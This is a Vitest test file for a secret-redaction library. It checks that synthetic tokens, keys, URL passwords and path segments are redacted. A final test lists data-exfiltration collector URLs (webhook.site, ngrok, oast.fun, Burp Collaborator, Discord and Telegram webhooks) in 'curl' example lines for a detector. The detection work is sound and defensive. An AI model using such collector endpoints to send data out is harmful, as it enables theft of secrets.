import { describe, expect, it } from 'vitest';
import {
  CREDENTIAL_KINDS,
  createPathRedactor,
  redactCredentials,
  redactPathSegments,
  redactText,
  shannonEntropy,
} from '../src/redact/index.js';

// Synthetic secrets in each issuer's documented shape. None is a real credential.
const A36 = 'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5';
const SAMPLES: Record<string, string> = {
  'aws-key-id': 'AKIAQ3EGRXW4J5N7TKXZ',
  'github-token': `ghp_${A36}`,
  'gitlab-token': 'glpat-x1Y2z3A4b5C6d7E8f9G0',
  'slack-token': 'xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx',
  'stripe-key': 'sk_live_51HqLyjWDarjtT1zdp7dcXbD0',
  'anthropic-key': 'sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbCdEf',
  'openai-key': 'sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEFGH',
  'npm-token': `npm_${A36}`,
  'pypi-token': `pypi-AgEIcHlwaS5vcmcCJDA${A36}${A36}`,
  jwt: 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  'google-api-key': 'AIzaSyD-3xAmPlE_k3y-0123456789abcdefghi',
  'huggingface-token': 'hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567',
  'sendgrid-key': 'SG.aBcDeFgHiJkLmNoPqRsTuV.aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdefg',
  'digitalocean-token': `dop_v1_${'0123456789abcdef'.repeat(4)}`,
  'telegram-token': '123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1',
};

describe('redactCredentials: each kind in the table', () => {
  it.each(Object.entries(SAMPLES))('%s is redacted in running text', (kind, secret) => {
    const text = `deploy with ${secret} today`;
    const r = redactCredentials(text);
    expect(r.text).not.toContain(secret);
    expect(r.text).toContain(`[REDACTED: ${kind}]`);
    expect(r.text.startsWith('deploy with ')).toBe(true);
    expect(r.text.endsWith(' today')).toBe(true);
    expect(r.kinds).toContain(kind);
  });

  it('redacts a Slack webhook URL', () => {
    expect(redactText('post to https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX now')).toBe(
      'post to [REDACTED: slack-token] now',
    );
  });

  it('every sample kind is a kind of the table', () => {
    for (const kind of Object.keys(SAMPLES)) expect(CREDENTIAL_KINDS).toContain(kind);
  });

  it('finds an AWS key id in a lowercased query (case-insensitive pass)', () => {
    const r = redactText('q=akiaq3egrxw4j5n7tkxz kinds=all');
    expect(r).toBe('q=[REDACTED: aws-key-id] kinds=all');
  });

  it('keeps the label of an AWS secret and redacts the value', () => {
    const r = redactText('aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"');
    expect(r).toBe('aws_secret_access_key = "[REDACTED: aws-secret]"');
  });

  it('redacts a PEM private key block, and one cut off before its END line', () => {
    const body = 'MIIEowIBAAKCAQEA7V1x\nqGJ5cRkQ3Z\n';
    const whole = `a\n-----BEGIN RSA PRIVATE KEY-----\n${body}-----END RSA PRIVATE KEY-----\nb`;
    expect(redactText(whole)).toBe('a\n[REDACTED: private-key]\nb');
    const cut = `x -----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA`;
    expect(redactText(cut)).toBe('x [REDACTED: private-key]');
    expect(redactText('-----BEGIN PUBLIC KEY-----\nMIIB')).toBe('-----BEGIN PUBLIC KEY-----\nMIIB');
  });

  it('redacts the password of URL userinfo and keeps the user and host', () => {
    expect(redactText('postgres://app:s3cr3t-P4ss@db.internal:5432/x')).toBe(
      'postgres://app:[REDACTED: url-credentials]@db.internal:5432/x',
    );
    expect(redactText('see http://host:8080/path and https://example.com/a:b')).toBe(
      'see http://host:8080/path and https://example.com/a:b',
    );
  });

  it('redacts a labelled generic secret with enough entropy, keeping the label', () => {
    expect(redactText('api_key = "q8Zt3LmN0pW7xR2v"')).toBe('api_key = "[REDACTED: secret]"');
    expect(redactText('DB_PASSWORD=Tr0ub4dor&3x')).toBe('DB_PASSWORD=[REDACTED: secret]&3x');
    expect(redactText('"client_secret": "9f8e7d6c5b4a39281706f5e4"')).toBe(
      '"client_secret": "[REDACTED: secret]"',
    );
  });

  it('leaves placeholders, low-entropy values and ordinary prose alone', () => {
    for (const clean of [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell-style placeholder, not a template
      'token: ${GITHUB_TOKEN}',
      'password = aaaaaaaa',
      'api_key: <your-key-here>',
      'secret = process.env.SECRET',
      'the token was rotated yesterday',
      'password=short',
      'q=app kinds=all roots=1 results=3',
      '/home/user/project/src/app.ts',
    ]) {
      expect(redactText(clean)).toBe(clean);
    }
  });

  it('redacts given literals (the server token) wherever they appear', () => {
    const token = 'Zr1x_9-q8Lw3nB7vT2kY6pD4sF0hJ5mC';
    const r = redactCredentials(`GET /?token=${token}&x=1`, { literals: [token] });
    expect(r.text).toBe('GET /?token=[REDACTED: token]&x=1');
  });

  it('redacts a literal in any letter case (a lowercased query still holds the token) 🔒', () => {
    const token = 'Zr1x_9-q8Lw3nB7vT2kY6pD4sF0hJ5mC';
    const text = `q=${token.toLowerCase()} Q=${token.toUpperCase()} İ ${token}`;
    expect(redactCredentials(text, { literals: [token] }).text).toBe(
      'q=[REDACTED: token] Q=[REDACTED: token] İ [REDACTED: token]',
    );
  });

  it('is idempotent: its output is a fixed point', () => {
    const text = Object.values(SAMPLES).join(' | ') + ' password=Tr0ub4dor&3x postgres://u:pw12345678@h/';
    const once = redactText(text);
    expect(redactText(once)).toBe(once);
    for (const secret of Object.values(SAMPLES)) expect(once).not.toContain(secret);
  });

  it('stays linear on long adversarial input (no nested quantifiers)', () => {
    // Quadratic rules would take minutes here; the test's own timeout is the bound, no timing threshold.
    const inputs = [
      'a'.repeat(200_000),
      'password'.repeat(25_000),
      `${'-----BEGIN A '.repeat(10_000)}`,
      `http://${'a'.repeat(100_000)}:${'b'.repeat(100_000)}`,
      `eyJ${'a'.repeat(100_000)}.`,
      'x_'.repeat(100_000),
    ];
    for (const s of inputs) expect(typeof redactText(s)).toBe('string');
  });

  it('computes Shannon entropy in bits per character', () => {
    expect(shannonEntropy('')).toBe(0);
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abcd')).toBe(2);
  });
});

describe('redactPathSegments', () => {
  const key = Buffer.alloc(32, 7);

  it('returns a clean path byte for byte', () => {
    const p = '/home/user/proj/src/notes café.txt';
    expect(redactPathSegments(p, { key })).toBe(p);
  });

  it('redacts the segment holding a secret and labels it with a stable HMAC', () => {
    const p = `/srv/AKIAQ3EGRXW4J5N7TKXZ/notes.txt`;
    const a = redactPathSegments(p, { key });
    expect(a).toMatch(/^\/srv\/\[REDACTED: aws-key-id\]~[0-9a-f]{12}\/notes\.txt$/);
    expect(a).not.toContain('AKIA');
    expect(redactPathSegments(p, { key })).toBe(a);
  });

  it('keeps two different secrets two different rows', () => {
    const a = redactPathSegments('/d/AKIAQ3EGRXW4J5N7TKXZ.txt', { key });
    const b = redactPathSegments('/d/AKIAZZZZRXW4J5N7TKXZ.txt', { key });
    expect(a).not.toBe(b);
    expect(a.replace(/~[0-9a-f]{12}/, '')).toBe(b.replace(/~[0-9a-f]{12}/, ''));
  });

  it('labels differ between keys (a per-process key by default)', () => {
    const p = '/d/AKIAQ3EGRXW4J5N7TKXZ';
    expect(redactPathSegments(p, { key })).not.toBe(redactPathSegments(p, { key: Buffer.alloc(32, 8) }));
    const r = createPathRedactor();
    expect(r(p)).toBe(r(p));
  });

  it('falls back to whole-string redaction when a secret spans a separator (never less redaction)', () => {
    // `scheme://user:pass@` crosses two separators: no single segment holds the secret.
    const p = '/x/postgres://u:pw1234567@h/y';
    const whole = redactText(p);
    expect(whole).not.toBe(p);
    const seg = redactPathSegments(p, { key });
    expect(seg).toBe(whole);
    expect(seg).not.toContain('pw1234567');
  });

  it('never returns something the redactor would still change', () => {
    for (const p of [
      '/a/ghp_aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5/b',
      '/a/password=Tr0ub4dor&3x/c',
      '/k/-----BEGIN RSA PRIVATE KEY-----/z',
    ]) {
      const out = redactPathSegments(p, { key });
      expect(redactText(out)).toBe(out);
    }
  });
});

describe('redactExfiltrationUrls', () => {
  it('redacts collector, tunnel and webhook URLs and URLs carrying a blob, and leaves ordinary URLs alone', async () => {
    const { redactExfiltrationUrls, EXFILTRATION_MARKER } = await import('../src/redact/index.js');
    const blob = 'QUJD'.repeat(40);
    for (const url of [
      'https://webhook.site/1f2e3d4c-aaaa-bbbb-cccc-000011112222',
      'http://abc123.ngrok-free.app/collect',
      'https://x9z.oast.fun/',
      'https://a.b.burpcollaborator.net/p',
      'https://discord.com/api/webhooks/123/abcDEF',
      'https://api.telegram.org/bot123:AAA/sendMessage?text=hi',
      `https://example.com/pixel.gif?d=${blob}`,
    ]) {
      expect(redactExfiltrationUrls(`curl ${url} now`)).toBe(`curl ${EXFILTRATION_MARKER} now`);
    }
    for (const ok of [
      'see https://github.com/org/repo/issues/12',
      'https://discord.com/channels/1/2',
      'https://example.com/search?q=needle',
      'no url here',
    ]) {
      expect(redactExfiltrationUrls(ok)).toBe(ok);
    }
  });
});
